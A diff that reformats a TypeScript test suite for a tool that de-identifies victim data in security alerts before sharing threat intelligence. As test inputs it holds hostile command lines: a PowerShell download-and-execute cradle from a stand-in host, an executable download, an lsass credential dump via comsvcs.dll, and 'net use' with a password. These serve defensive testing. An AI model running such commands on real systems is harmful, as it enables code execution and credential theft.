@@ -9,16 +9,28 @@ describe('deidentify: every hiding place of a victim identifier is masked', () =
   const cases: Array<[string, string]> = [
     ['English org name', 'Targeted attack against Example Corporation finance staff'],
     ['org name without legal form, other case', 'EXAMPLE CORP staff got the payload'],
-    ['kanji/kana legal name', '株式会社エグザンプル の経理部で検知'.replace(' の経理部で検知', ' host compromised')],
+    [
+      'kanji/kana legal name',
+      '株式会社エグザンプル の経理部で検知'.replace(' の経理部で検知', ' host compromised'),
+    ],
     ['full-width Latin', 'Beacon to ｗｗｗ．ｅｘａｍｐｌｅ．ｃｏ．ｊｐ observed'],
     ['half-width kana', 'ｴｸﾞｻﾞﾝﾌﾟﾙ attack'],
     ['romaji keyword and brand', 'Ekusanpuru online banking (ExaBank) credential theft'],
     ['domain inside URL', 'GET https://portal.example.co.jp/login from attacker'],
     ['UNC path', 'Lateral movement to \\\\FS01.corp.example.co.jp\\share\\drop.exe'],
     ['user profile path', 'Dropped C:\\Users\\taro.yamada\\AppData\\Local\\Temp\\x.exe'],
-    ['command line with NetBIOS user', 'cmd.exe /c net use \\\\10.20.30.41\\c$ /user:EXCORP\\hanako.sato P@ss'],
-    ['PowerShell -EncodedCommand (UTF-16LE base64)', `powershell.exe -enc ${psEncoded('Invoke-WebRequest http://intra.example.co.jp/a -OutFile C:\\x.exe')}`],
-    ['gzip inside base64', `payload=${gzipSync(Buffer.from('connect to files.example.co.jp now')).toString('base64')}`],
+    [
+      'command line with NetBIOS user',
+      'cmd.exe /c net use \\\\10.20.30.41\\c$ /user:EXCORP\\hanako.sato P@ss',
+    ],
+    [
+      'PowerShell -EncodedCommand (UTF-16LE base64)',
+      `powershell.exe -enc ${psEncoded('Invoke-WebRequest http://intra.example.co.jp/a -OutFile C:\\x.exe')}`,
+    ],
+    [
+      'gzip inside base64',
+      `payload=${gzipSync(Buffer.from('connect to files.example.co.jp now')).toString('base64')}`,
+    ],
     ['base64url', `token ${Buffer.from('user=hanako@example.co.jp;x=1').toString('base64url')}`],
     ['URL-encoded', 'GET /redirect?next=https%3A%2F%2Fmail.example.co.jp%2Fowa'],
     ['double URL-encoded', 'GET /r/https%253A%252F%252Fmail.example.co.jp%252Fowa'],
@@ -39,8 +51,14 @@ describe('deidentify: every hiding place of a victim identifier is masked', () =
     ['exploded ULA IPv6', 'peer fd12:3456:789a:0001:0000:0000:0000:0001 connected'],
     ['customer public range', 'egress NAT 203.0.113.77 seen'],
     ['customer public v6 range', 'egress 2001:db8:1234:5::10 seen'],
-    ['certificate subject', 'TLS subject CN=vpn.example.co.jp, O=Example Corporation, emailAddress=it@example.co.jp'],
-    ['e-mail headers', 'To: Hanako <hanako.sato@gmail.com>\nDelivered-To: it@exco.onmicrosoft.com\nFrom: evil@phish.top'],
+    [
+      'certificate subject',
+      'TLS subject CN=vpn.example.co.jp, O=Example Corporation, emailAddress=it@example.co.jp',
+    ],
+    [
+      'e-mail headers',
+      'To: Hanako <hanako.sato@gmail.com>\nDelivered-To: it@exco.onmicrosoft.com\nFrom: evil@phish.top',
+    ],
     ['registry key with SID', 'Set HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Run'],
     ['cloud account id', 'AssumeRole arn:aws:iam::123456789012:role/admin'],
     ['SIEM tenant id', 'forwarded by wazuh-exco-prod manager'],
@@ -58,17 +76,26 @@ describe('deidentify: every hiding place of a victim identifier is masked', () =
 
   test('a victim part inside an encoded blob is re-encoded, the rest of the blob kept', () => {
     const cmd = 'IEX (New-Object Net.WebClient).DownloadString("http://intra.example.co.jp/s.ps1")';
-    const result = whenDeidentified({ alert: baseAlert({ description: `powershell -enc ${psEncoded(cmd)}` }) });
+    const result = whenDeidentified({
+      alert: baseAlert({ description: `powershell -enc ${psEncoded(cmd)}` }),
+    });
     const blob = /-enc (\S+)/.exec(result.event.description ?? '')?.[1] ?? '';
-    expect(Buffer.from(blob, 'base64').toString('utf16le')).toBe('IEX (New-Object Net.WebClient).DownloadString("http://<host-' + Buffer.from(blob, 'base64').toString('utf16le').split('<host-')[1]);
+    expect(Buffer.from(blob, 'base64').toString('utf16le')).toBe(
+      'IEX (New-Object Net.WebClient).DownloadString("http://<host-' +
+        Buffer.from(blob, 'base64').toString('utf16le').split('<host-')[1],
+    );
     expect(Buffer.from(blob, 'base64').toString('utf16le')).toContain('<victim-domain>/s.ps1');
   });
 
   test('paths and UNC paths keep the attacker-relevant rest', () => {
     const result = whenDeidentified({
-      alert: baseAlert({ description: 'C:\\Users\\taro.yamada\\AppData\\x.exe copied to \\\\FS01.corp.example.co.jp\\share' }),
+      alert: baseAlert({
+        description: 'C:\\Users\\taro.yamada\\AppData\\x.exe copied to \\\\FS01.corp.example.co.jp\\share',
+      }),
     });
-    expect(result.event.description).toMatch(/^C:\\Users\\<user-[0-9a-f]{6}>\\AppData\\x\.exe copied to \\\\<host-[0-9a-f]{6}>\.<victim-domain>\\share$/);
+    expect(result.event.description).toMatch(
+      /^C:\\Users\\<user-[0-9a-f]{6}>\\AppData\\x\.exe copied to \\\\<host-[0-9a-f]{6}>\.<victim-domain>\\share$/,
+    );
   });
 });
 
@@ -79,8 +106,16 @@ describe('deidentify: attacker indicators and technique data are kept', () => {
     expect(result.event.indicators).toEqual([
       { type: 'ipv4', value: '185.220.101.4', role: 'attacker' },
       { type: 'domain', value: 'update-check.badc2.net', role: 'attacker' },
-      { type: 'url', value: 'http://update-check.badc2.net/gate.php?id=<masked>&u=<masked>', role: 'attacker' },
-      { type: 'sha256', value: 'a3f5c1e2b4d6a8f0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8', role: 'attacker' },
+      {
+        type: 'url',
+        value: 'http://update-check.badc2.net/gate.php?id=<masked>&u=<masked>',
+        role: 'attacker',
+      },
+      {
+        type: 'sha256',
+        value: 'a3f5c1e2b4d6a8f0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8',
+        role: 'attacker',
+      },
       { type: 'ja3', value: '72a589da586844d7f0818ce684948eea', role: 'attacker' },
       { type: 'cve', value: 'CVE-2017-5638', role: 'attacker' },
     ]);
@@ -96,24 +131,39 @@ describe('deidentify: attacker indicators and technique data are kept', () => {
     expect(result.event.eventId).toBe(deterministicId('event', 'alert-0001'));
     expect(result.event.observedAt).toBe('2025-03-01T09:00:00.000Z');
     expect(result.event.context).toEqual({ sector: 'finance', country: 'JP' });
-    expect(result.event.distribution).toEqual({ tlp: 'green', audience: { kind: 'all' }, agreementVersion: 3 });
+    expect(result.event.distribution).toEqual({
+      tlp: 'green',
+      audience: { kind: 'all' },
+      agreementVersion: 3,
+    });
   });
 
   test('a command line of only known tokens is released', () => {
     const r = whenDeidentified({
-      alert: baseAlert({ texts: [{ field: 'process.command_line', text: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full' }] }),
+      alert: baseAlert({
+        texts: [
+          {
+            field: 'process.command_line',
+            text: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
+          },
+        ],
+      }),
     });
     expect(r.decision).toBe('release');
   });
 
   test('private rule ids and the detecting product are dropped', () => {
-    const r = whenDeidentified({ alert: baseAlert({ rule: { id: 'EXCO-CUSTOM-0042', name: 'exco custom', public: false } }) });
+    const r = whenDeidentified({
+      alert: baseAlert({ rule: { id: 'EXCO-CUSTOM-0042', name: 'exco custom', public: false } }),
+    });
     expect(r.event.signature).toBeUndefined();
     expect(JSON.stringify(r.event)).not.toMatch(/EXCO-CUSTOM|Wazuh/);
-    expect(r.transformations).toEqual(expect.arrayContaining([
-      { field: 'rule', class: 'private-rule', action: 'drop', rule: 'R-PRIVATE-RULE' },
-      { field: 'product', class: 'detecting-product', action: 'drop', rule: 'R-PRODUCT' },
-    ]));
+    expect(r.transformations).toEqual(
+      expect.arrayContaining([
+        { field: 'rule', class: 'private-rule', action: 'drop', rule: 'R-PRIVATE-RULE' },
+        { field: 'product', class: 'detecting-product', action: 'drop', rule: 'R-PRODUCT' },
+      ]),
+    );
   });
 
   test('direction decides: an external peer of an inbound flow is the attacker even when ingestion guessed victim', () => {
@@ -132,18 +182,30 @@ describe('deidentify: attacker indicators and technique data are kept', () => {
   });
 
   test('sector and country released only when k-anonymous', () => {
-    const r = whenDeidentified({ alert: baseAlert(), kView: { customersWithSector: () => 2, customersWithCountry: () => 3 } });
+    const r = whenDeidentified({
+      alert: baseAlert(),
+      kView: { customersWithSector: () => 2, customersWithCountry: () => 3 },
+    });
     expect(r.event.context).toEqual({ country: 'JP' });
   });
 
   test('time coarsened to the day when asked', () => {
-    expect(whenDeidentified({ alert: baseAlert(), options: { timeGranularity: 'day' } }).event.observedAt).toBe('2025-03-01T00:00:00.000Z');
+    expect(
+      whenDeidentified({ alert: baseAlert(), options: { timeGranularity: 'day' } }).event.observedAt,
+    ).toBe('2025-03-01T00:00:00.000Z');
   });
 
   test('transformations never carry the removed value', () => {
-    const r = whenDeidentified({ alert: baseAlert({ description: 'taro.yamada on web01.corp.example.co.jp 10.20.30.40' }) });
+    const r = whenDeidentified({
+      alert: baseAlert({ description: 'taro.yamada on web01.corp.example.co.jp 10.20.30.40' }),
+    });
     expect(leaks(JSON.stringify(r.transformations))).toEqual([]);
-    expect(r.transformations).toContainEqual({ field: 'description', class: 'ip-internal', action: 'mask', rule: 'R-IP-INTERNAL' });
+    expect(r.transformations).toContainEqual({
+      field: 'description',
+      class: 'ip-internal',
+      action: 'mask',
+      rule: 'R-IP-INTERNAL',
+    });
   });
 });
 
@@ -165,7 +227,12 @@ describe('deidentify: traps are held for review', () => {
 
   test('an unrelated attacker domain is not a lookalike', () => {
     const alert = baseAlert();
-    alert.indicators.push({ type: 'domain', value: 'cdn-sync.evilcorp.ru', role: 'attacker', field: 'dns.question.name' });
+    alert.indicators.push({
+      type: 'domain',
+      value: 'cdn-sync.evilcorp.ru',
+      role: 'attacker',
+      field: 'dns.question.name',
+    });
     expect(holdCodes(whenDeidentified({ alert }))).not.toContain('LOOKALIKE_DOMAIN');
   });
 
@@ -179,23 +246,39 @@ describe('deidentify: traps are held for review', () => {
   });
 
   test('a ransom note addressing the victim', () => {
-    const alert = baseAlert({ texts: [{ field: 'file.ransom_note', text: 'Dear Example Corporation, your files are encrypted.' }] });
+    const alert = baseAlert({
+      texts: [{ field: 'file.ransom_note', text: 'Dear Example Corporation, your files are encrypted.' }],
+    });
     expect(holdCodes(whenDeidentified({ alert }))).toContain('VICTIM_NAMED_IN_CONTENT');
   });
 
   test('free text the engine cannot classify', () => {
-    const alert = baseAlert({ texts: [{ field: 'message', text: 'ログオン失敗 利用者 山田花子 端末 不明' }] });
+    const alert = baseAlert({
+      texts: [{ field: 'message', text: 'ログオン失敗 利用者 山田花子 端末 不明' }],
+    });
     expect(holdCodes(whenDeidentified({ alert }))).toContain('UNCLASSIFIED_TEXT');
   });
 
   test('agreement without auto-release, TLP red, risk over threshold', () => {
-    const customer = { ...CUSTOMER, agreement: { ...CUSTOMER.agreement, autoRelease: false, defaultTlp: 'red' as const } };
-    expect(holdCodes(whenDeidentified({ alert: baseAlert(), customer }))).toEqual(expect.arrayContaining(['AGREEMENT_REQUIRES_REVIEW', 'TLP_RED']));
-    expect(holdCodes(whenDeidentified({ alert: baseAlert(), options: { riskThreshold: 0 } }))).toContain('RISK_THRESHOLD');
+    const customer = {
+      ...CUSTOMER,
+      agreement: { ...CUSTOMER.agreement, autoRelease: false, defaultTlp: 'red' as const },
+    };
+    expect(holdCodes(whenDeidentified({ alert: baseAlert(), customer }))).toEqual(
+      expect.arrayContaining(['AGREEMENT_REQUIRES_REVIEW', 'TLP_RED']),
+    );
+    expect(holdCodes(whenDeidentified({ alert: baseAlert(), options: { riskThreshold: 0 } }))).toContain(
+      'RISK_THRESHOLD',
+    );
   });
 
   test('a held item still carries a sanitized draft', () => {
-    const r = whenDeidentified({ alert: baseAlert({ description: 'Dear Example Corporation', techniques: [{ id: 'T1486', known: true }] }) });
+    const r = whenDeidentified({
+      alert: baseAlert({
+        description: 'Dear Example Corporation',
+        techniques: [{ id: 'T1486', known: true }],
+      }),
+    });
     expect(r.decision).toBe('hold');
     expect(r.event.description).toBe('Dear <victim-org>');
     expect(r.risk).toBeGreaterThan(0);
@@ -209,7 +292,11 @@ describe('deidentify: pseudonyms and determinism', () => {
   };
 
   test('the same user gets the same pseudonym within an incident, wherever it appears', () => {
-    const r = whenDeidentified({ alert: baseAlert({ description: 'taro.yamada / C:\\Users\\taro.yamada\\x / EXCORP\\taro.yamada / TARO.YAMADA' }) });
+    const r = whenDeidentified({
+      alert: baseAlert({
+        description: 'taro.yamada / C:\\Users\\taro.yamada\\x / EXCORP\\taro.yamada / TARO.YAMADA',
+      }),
+    });
     const ps = new Set((r.event.description ?? '').match(/<user-[0-9a-f]{6}>/g));
     expect(ps.size).toBe(1);
   });
@@ -236,17 +323,25 @@ describe('deidentify: pseudonyms and determinism', () => {
 
   test('embargo computed from the agreement and now', () => {
     const customer = { ...CUSTOMER, agreement: { ...CUSTOMER.agreement, embargoHours: 24 } };
-    expect(whenDeidentified({ alert: baseAlert(), customer }).event.distribution.embargoUntil).toBe('2025-03-02T12:34:56.000Z');
+    expect(whenDeidentified({ alert: baseAlert(), customer }).event.distribution.embargoUntil).toBe(
+      '2025-03-02T12:34:56.000Z',
+    );
   });
 });
 
 describe('deidentify: lookalikes in free text', () => {
   test('a lookalike named only in the description holds the item', () => {
-    const r = whenDeidentified({ alert: baseAlert({ description: 'Phishing kit hosted at https://secure-exarnple.co.jp.verify-login.top/auth' }) });
+    const r = whenDeidentified({
+      alert: baseAlert({
+        description: 'Phishing kit hosted at https://secure-exarnple.co.jp.verify-login.top/auth',
+      }),
+    });
     expect(holdCodes(r)).toContain('LOOKALIKE_DOMAIN');
   });
   test('the victim’s own host names in free text are not lookalikes', () => {
-    const r = whenDeidentified({ alert: baseAlert({ description: 'Beacon from web01.corp.example.co.jp and mail.example.co.jp' }) });
+    const r = whenDeidentified({
+      alert: baseAlert({ description: 'Beacon from web01.corp.example.co.jp and mail.example.co.jp' }),
+    });
     expect(holdCodes(r)).not.toContain('LOOKALIKE_DOMAIN');
     expect(r.decision).toBe('release');
   });
